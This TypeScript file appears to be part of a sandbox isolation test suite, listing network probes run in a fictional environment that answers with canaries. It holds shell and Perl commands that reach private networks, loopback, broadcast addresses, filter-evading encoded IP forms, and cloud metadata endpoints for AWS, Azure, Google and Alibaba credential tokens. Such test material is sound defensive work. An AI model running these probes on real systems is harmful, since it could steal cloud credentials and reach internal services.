import { attacks, type Row } from '../attack.ts'

const over = (kind: string, name: string, host: string, port: number, what: string): Row => [
  name,
  `reach ${what} (${host}, port ${port})`,
  `reach ${kind} ${host} ${port}`,
]
const http = (name: string, host: string, path: string, what: string, port = 80): Row => [
  name,
  `ask ${what} (${host})`,
  `reach tcp ${host} ${port} "GET ${path} HTTP/1.0\\\\r\\\\nMetadata: true\\\\r\\\\nMetadata-Flavor: Google\\\\r\\\\n\\\\r\\\\n"`,
]

/** Addresses of the fictional world in which the weak layout runs: each answers with a canary. */
export const worldAddresses = {
  v4: [
    '1.1.1.1',
    '8.8.8.8',
    '140.82.112.3',
    '10.0.0.1',
    '172.17.0.1',
    '192.168.1.1',
    '169.254.169.254',
    '169.254.170.2',
    '100.100.100.200',
    '168.63.129.16',
    '203.0.113.7',
  ],
  v6: ['2606:4700:4700::1111', 'fd00:ec2::254', 'fe80::a9fe:a9fe', '2001:db8::7', 'fd20:ce::254'],
}

export const addresses = [
  ...attacks('network.ipv4', 'network', [
    over('tcp', 'https', '1.1.1.1', 443, 'the internet'),
    over('tcp', 'http', '1.1.1.1', 80, 'the internet'),
    over('tcp', 'github', '140.82.112.3', 443, 'GitHub itself'),
    over('tcp', 'ssh', '203.0.113.7', 22, 'a machine of its own by ssh'),
    over('tcp', 'mail', '203.0.113.7', 25, 'a mail server'),
    over('tcp', 'odd-port', '203.0.113.7', 31337, 'an odd port'),
    over('tcp', 'gateway', '172.17.0.1', 80, 'the host by the bridge’s gateway'),
    over('tcp', 'lan', '192.168.1.1', 80, 'the local network'),
    over('tcp', 'private', '10.0.0.1', 5432, 'a database of the private network'),
    over('tcp', 'cache', '10.0.0.1', 6379, 'a cache of the private network'),
    [
      'host-loopback',
      'reach services on the host’s own loopback',
      'for p in $RT_PORTS; do reach tcp 127.0.0.1 $p; done',
    ],
    ['zero', 'reach the host by 0.0.0.0', 'for p in $RT_PORTS; do reach tcp 0.0.0.0 $p; done'],
    [
      'loopback-other',
      'reach the host by another loopback address',
      'for p in $RT_PORTS; do reach tcp 127.8.8.8 $p; done',
    ],
    over('udp', 'udp', '1.1.1.1', 443, 'the internet by datagrams'),
    over('udp', 'time', '203.0.113.7', 123, 'a time server'),
    over('udp', 'log', '203.0.113.7', 514, 'a log server'),
    ['decimal', 'reach an address written as one number', 'reach tcp 16843009 80; curl -s -m 2 http://0x01010101/'],
    [
      'broadcast',
      'shout to everybody',
      'perl -MSocket -e \'socket my $s, PF_INET, SOCK_DGRAM, 0; setsockopt $s, SOL_SOCKET, SO_BROADCAST, 1; print "reached:$ENV{RT_ID}" if send $s, "leak:$ENV{RT_ID}", 0, sockaddr_in(9999, inet_aton "255.255.255.255")\'',
    ],
    [
      'multicast',
      'speak to a group',
      'perl -MSocket -e \'socket my $s, PF_INET, SOCK_DGRAM, 0; print "reached:$ENV{RT_ID}" if send $s, "leak:$ENV{RT_ID}", 0, sockaddr_in(5353, inet_aton "224.0.0.251")\'',
    ],
  ]),
  ...attacks('network.ipv6', 'network', [
    over('tcp', 'https', '2606:4700:4700::1111', 443, 'the internet'),
    over('tcp', 'http', '2001:db8::7', 80, 'a machine of its own'),
    over('udp', 'udp', '2001:db8::7', 443, 'the internet by datagrams'),
    ['loopback', 'reach services on the host’s own loopback', 'for p in $RT_PORTS; do reach tcp ::1 $p; done'],
    ['mapped', 'reach an IPv4 address written as IPv6', 'reach tcp ::ffff:1.1.1.1 80'],
    [
      'link-local',
      'reach a neighbour by a link-local address',
      'for i in $(ls /sys/class/net); do reach tcp fe80::a9fe:a9fe%$i 80; done',
    ],
    [
      'all-nodes',
      'shout to all neighbours',
      'perl -MSocket=:all -e \'socket my $s, PF_INET6, SOCK_DGRAM, 0; for my $i (1..4) { print "reached:$ENV{RT_ID}" if send $s, "leak:$ENV{RT_ID}", 0, pack_sockaddr_in6(9999, inet_pton(AF_INET6, "ff02::1"), $i) }\'',
      'The weak world has only a loopback interface, which carries no groups of IPv6.',
    ],
  ]),
  ...attacks('network.metadata', 'network', [
    http('aws', '169.254.169.254', '/latest/meta-data/iam/security-credentials/', 'Amazon’s metadata service'),
    [
      'aws-token',
      'ask Amazon’s metadata service in its second version',
      'reach tcp 169.254.169.254 80 "PUT /latest/api/token HTTP/1.0\\\\r\\\\nX-aws-ec2-metadata-token-ttl-seconds: 60\\\\r\\\\n\\\\r\\\\n"',
    ],
    http('aws-v6', 'fd00:ec2::254', '/latest/meta-data/', 'Amazon’s metadata service over IPv6'),
    http('aws-task', '169.254.170.2', '/v2/credentials/', 'the credentials of a container task'),
    http(
      'azure',
      '169.254.169.254',
      '/metadata/identity/oauth2/token?api-version=2018-02-01',
      'Azure’s metadata service, where GitHub’s runners live',
    ),
    http('azure-wire', '168.63.129.16', '/machine?comp=goalstate', 'Azure’s wire server'),
    http('azure-wire-config', '168.63.129.16', '/vmSettings', 'the machine’s settings on Azure', 32526),
    http(
      'google',
      '169.254.169.254',
      '/computeMetadata/v1/instance/service-accounts/default/token',
      'Google’s metadata service',
    ),
    http('google-v6', 'fd20:ce::254', '/computeMetadata/v1/', 'Google’s metadata service over IPv6'),
    http('alibaba', '100.100.100.200', '/latest/meta-data/', 'Alibaba’s metadata service'),
    [
      'octal',
      'ask a metadata service by an address written in octal',
      'curl -s -m 2 http://0251.0376.0251.0376/latest/',
    ],
  ]),
]
